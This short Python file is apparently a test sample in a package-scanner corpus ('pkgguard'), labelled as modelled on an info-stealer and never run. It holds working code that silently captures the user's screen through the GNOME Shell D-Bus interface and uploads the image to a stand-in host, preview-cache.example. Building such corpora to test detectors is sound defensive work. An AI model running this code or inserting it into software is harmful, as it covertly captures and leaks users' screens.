# pkgguard corpus 539 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import tempfile

import dbus
import requests

bus = dbus.SessionBus()
shell = bus.get_object("org.gnome.Shell.Screenshot", "/org/gnome/Shell/Screenshot")
path = os.path.join(tempfile.gettempdir(), "s.png")
shell.Screenshot(False, False, path, dbus_interface="org.gnome.Shell.Screenshot")
with open(path, "rb") as fh:
    requests.put("https://preview-cache.example/s", data=fh.read(), timeout=10)
